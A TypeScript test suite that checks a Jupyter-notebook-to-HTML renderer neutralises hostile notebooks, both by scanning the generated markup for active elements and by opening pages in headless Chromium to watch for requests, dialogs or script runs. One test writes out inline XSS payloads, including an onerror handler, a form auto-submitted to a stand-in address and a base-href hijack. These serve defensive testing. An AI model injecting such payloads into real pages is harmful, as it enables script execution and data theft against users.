import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Element, Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import type { Browser, Page, Request } from "playwright-core";
import { afterAll, describe, expect, it } from "vitest";
import { FileError } from "../../src/errors.js";
import { offlineFlags } from "../../src/figures/render/chromium.js";
import { type HtmlOptions, notebookToHtml } from "../../src/notebook/page/notebook-html.js";
import { parseNotebook } from "../../src/notebook/run/nbformat.js";
import { type HostileCase, hostileNotebooks, notebookFile, randomNotebooks } from "../fuzz/notebook.js";
import { launchBrowser } from "../helpers/browser.js";
import { temporaryFolder } from "../helpers/folders.js";
import { available, chromium } from "../helpers/optional.js";

const place = temporaryFolder();
afterAll(() => place.remove());

/** The page of a case, or undefined where the file is refused in one line. */
async function pageOf({ name, notebook }: HostileCase, options: HtmlOptions = {}): Promise<string | undefined> {
  try {
    const parsed = parseNotebook(JSON.stringify(notebook), "n.ipynb");
    return await notebookToHtml(parsed, { name, folder: place.folder, ...options });
  } catch (error) {
    if (!(error instanceof FileError)) throw new Error(`${name}: ${(error as Error).stack}`);
    expect(error.message, name).toMatch(/^n\.ipynb: [^\n]+$/);
    return undefined;
  }
}

function* elements(node: Nodes): Generator<Element> {
  if (node.type === "element") yield node;
  if ("children" in node) for (const child of node.children) yield* elements(child);
}

const inert = /^(?:script|style|title|meta|link|button|nav|main|html|head|body|figure|noscript)$/;
const acting =
  /^(?:iframe|frame|frameset|object|embed|applet|form|input|select|textarea|base|audio|video|source|track|portal|template|marquee|animate|set|use|foreignobject|area|slot)$/i;

/** What a page holds that acts, told by its elements as a browser reads them. */
function found(html: string): string[] {
  const all = [...elements(fromHtml(html))];
  const count = (name: string, limit: number) => {
    const seen = all.filter(
      ({ tagName, properties }) => tagName === name && properties.type !== "application/json",
    ).length;
    return seen > limit ? [`${seen} ${name}`] : [];
  };
  const figures = all.some(({ properties }) => [properties.className].flat().includes("drawing"));
  const wrong = all.flatMap(({ tagName, properties }) => {
    const names = Object.entries(properties).flatMap(([name, value]) => {
      const text = String(value);
      if (/^on|^srcdoc$|^formaction$|^ping$|^target$|^srcset$/i.test(name)) return [`${tagName} ${name}`];
      if (/href/i.test(name) && !/^(?:https?:|mailto:|#|data:image\/svg\+xml|[^:\\]*$)/i.test(text))
        return [`${tagName} ${name}=${text}`];
      if (name === "src" && !text.startsWith("data:image/")) return [`${tagName} src=${text}`];
      if (name === "style" && /url|expression|position|\\|@/i.test(text)) return [`${tagName} style=${text}`];
      return [];
    });
    return [...names, ...(acting.test(tagName) && !inert.test(tagName) ? [tagName] : [])];
  });
  return [
    ...wrong,
    ...count("script", figures ? 2 : 1),
    ...count("style", 1),
    ...count("meta", 3),
    ...count("link", 1),
    ...count("title", 1),
  ];
}

describe("pages of hostile notebooks", () => {
  const cases = hostileNotebooks();

  it("hold nothing that acts, for every vector", async () => {
    expect(cases.length).toBeGreaterThan(250);
    const wrong: string[] = [];
    for (const each of cases) {
      const html = await pageOf(each);
      if (html !== undefined) wrong.push(...found(html).map((what) => `${each.name}: ${what}`));
    }
    expect(wrong).toEqual([]);
  });

  it("hold nothing that acts where vectors are cut and mixed at random, or a field is of another kind", async () => {
    const wrong: string[] = [];
    let pages = 0;
    for (const each of randomNotebooks(1, 120)) {
      const html = await pageOf(each);
      if (html === undefined) continue;
      pages++;
      wrong.push(...found(html).map((what) => `${each.name}: ${what}`));
    }
    expect(wrong).toEqual([]);
    expect(pages).toBeGreaterThan(50);
  });

  it("the same check finds what a trusted notebook may hold", async () => {
    let flagged = 0;
    for (const each of cases.filter(({ name }) => name.startsWith("output: "))) {
      const html = await pageOf(each, { trusted: true });
      if (html !== undefined && !each.name.includes("nested") && found(html).length > 0) flagged++;
    }
    expect(flagged).toBeGreaterThan(70);
  });
});

/** All figures are drawn, or say that they can not be. */
const settled = `[...document.querySelectorAll("figure.drawing")].every((figure) =>
  figure.dataset.drawn || figure.querySelector(".plot")?.textContent.startsWith("This figure can"))`;
const touch = `for (const each of [...document.querySelectorAll("main *")].slice(0, 500)) {
  const link = each.closest("a");
  if (link && /^(?:https?|file):/.test(link.href?.baseVal ?? link.href)) continue;
  for (const type of ["mouseover", "pointerenter", "focus", "toggle"]) each.dispatchEvent(new Event(type, { bubbles: true }));
  each.click?.();
}`;

const path = chromium();
describe.runIf(available("Chromium (apt-get install chromium)", path))("hostile notebooks in a browser", () => {
  let browser: Browser | undefined;
  afterAll(() => browser?.close());
  const file = join(place.folder, "page.html");
  const address = pathToFileURL(file).href;
  const pages = new Map<boolean, { page: Page; events: string[] }>();

  /** A page that notes what happens on it; with or without the policies of what it shows. */
  async function watchedPage(bypassCSP: boolean): Promise<{ page: Page; events: string[] }> {
    const known = pages.get(bypassCSP);
    if (known) return known;
    browser ??= await launchBrowser(offlineFlags);
    const context = await browser.newContext({ bypassCSP });
    const page = await context.newPage();
    const events: string[] = [];
    const asked = (request: Request): void => {
      // What a page has in itself is no request, nor is what its policy stopped.
      if (request.url() === address || /^(?:data|blob|about):/.test(request.url())) return;
      if (request.failure()?.errorText !== "csp") events.push(`asked ${request.url()}`);
    };
    page.on("requestfinished", asked);
    page.on("requestfailed", asked);
    page.on("dialog", (dialog) => {
      events.push("dialog");
      void dialog.dismiss();
    });
    page.on("framenavigated", (frame) => {
      if (!/^about:blank$/.test(frame.url()) && frame.url().split("#")[0] !== address)
        events.push(`went to ${frame.url()}`);
    });
    page.on("popup", (other) => {
      events.push("opened a window");
      void other.close();
    });
    pages.set(bypassCSP, { page, events });
    return { page, events };
  }

  /**
   * What happens on a page that is opened, looked at and clicked on everywhere but on links that lead to other sites.
   *
   * @param patience milliseconds that something is given to happen
   */
  async function happens(html: string, bypassCSP: boolean, patience = 60): Promise<string[]> {
    const { page, events } = await watchedPage(bypassCSP);
    writeFileSync(file, html);
    try {
      await page.goto(address, { waitUntil: "domcontentloaded" });
      await page.waitForFunction(settled);
      await page.evaluate(touch);
      const ran = () => page.evaluate<boolean>("window.ran !== undefined");
      const until = performance.now() + patience;
      do await page.waitForTimeout(60);
      while (events.length === 0 && !(await ran()) && performance.now() < until);
      if (await ran()) events.push("ran");
      if ((await page.evaluate("({}).ran")) !== undefined) events.push("prototype");
    } catch (error) {
      events.push(`broke: ${String(error).split("\n")[0]}`);
    }
    return events.splice(0);
  }

  /**
   * Cases of outputs and prose, some to a page, as cells of one notebook; those that a second reading could change,
   * figures, and files of another form stay alone.
   */
  function shared(cases: readonly HostileCase[]): HostileCase[] {
    const alone = ({ name }: HostileCase) => /mutation|nested|^figure/.test(name) || !name.includes(": ");
    const together = cases.filter((each) => !alone(each));
    const size = 8;
    const pages = Array.from({ length: Math.ceil(together.length / size) }, (_, i) => {
      const some = together.slice(i * size, (i + 1) * size);
      const cells = some.flatMap(({ notebook }) => notebook.cells as unknown[]);
      return { name: some.map(({ name }) => name).join(", "), notebook: { ...some[0].notebook, cells } };
    });
    return [...cases.filter(alone), ...pages];
  }

  it("run nothing, ask nothing and lead nowhere, without the page's policy as well", async () => {
    const wrong: string[] = [];
    // Prose goes through the same as outputs: of its vectors those are opened here that a second reading could change.
    const opened = hostileNotebooks().filter(({ name }) => !name.startsWith("prose") || name.includes("mutation"));
    expect(opened.length).toBeGreaterThan(150);
    for (const each of shared(opened)) {
      const html = await pageOf(each);
      if (html === undefined) continue;
      // A figure may name a picture elsewhere; there it is the policy that stops it.
      const events = await happens(html, !each.name.startsWith("figure"));
      wrong.push(...events.map((event) => `${each.name}: ${event}`));
    }
    expect(wrong).toEqual([]);
  }, 400_000);

  it("mixed at random run nothing, ask nothing and lead nowhere", async () => {
    const wrong: string[] = [];
    for (const each of randomNotebooks(2, 15)) {
      const html = await pageOf(each);
      const events = html === undefined ? [] : await happens(html, false);
      wrong.push(...events.map((event) => `${each.name}: ${event}`));
    }
    expect(wrong).toEqual([]);
  });

  it("are stopped by the policy where the sanitiser would miss a script", async () => {
    const html = (await pageOf({ name: "plain", notebook: notebookFile([]) })) ?? "";
    for (const missed of [
      "<script>window.ran = 1</script>",
      '<img src=x onerror="window.ran = 1">',
      '<form action="http://192.0.2.1/"><input name=a></form><script>document.forms[0].submit()</script>',
      '<base href="http://192.0.2.1/"><script src="x.js"></script><img src="http://192.0.2.1/x.png">',
    ]) {
      const events = await happens(html.replace("</main>", `${missed}</main>`), false);
      expect(events, missed).toEqual([]);
    }
  });

  it("do run in trusted pages, alone and together: the vectors are no blanks", async () => {
    const cases = hostileNotebooks().filter(({ name }) => name.startsWith("output: ") && !name.includes("nested"));
    const quietOf = async (cases: readonly HostileCase[], patience: number) => {
      const quiet: HostileCase[] = [];
      for (const each of cases) {
        const events = await happens((await pageOf(each, { trusted: true })) ?? "", true, patience);
        if (events.length === 0) quiet.push(each);
      }
      return quiet;
    };
    const some = cases.filter((_, i) => i % 3 === 0);
    // Some never do anything in this browser: the time for the others is short at first.
    let quiet = some;
    for (let patience = 60; patience < 5000 && quiet.length >= some.length / 2; patience *= 8)
      quiet = await quietOf(quiet, patience);
    expect(1 - quiet.length / some.length).toBeGreaterThan(0.5);
    const together = shared(cases).filter(({ name }) => name.includes(", output: "));
    expect((await quietOf(together, 60_000)).map(({ name }) => name)).toEqual([]);
  });
});
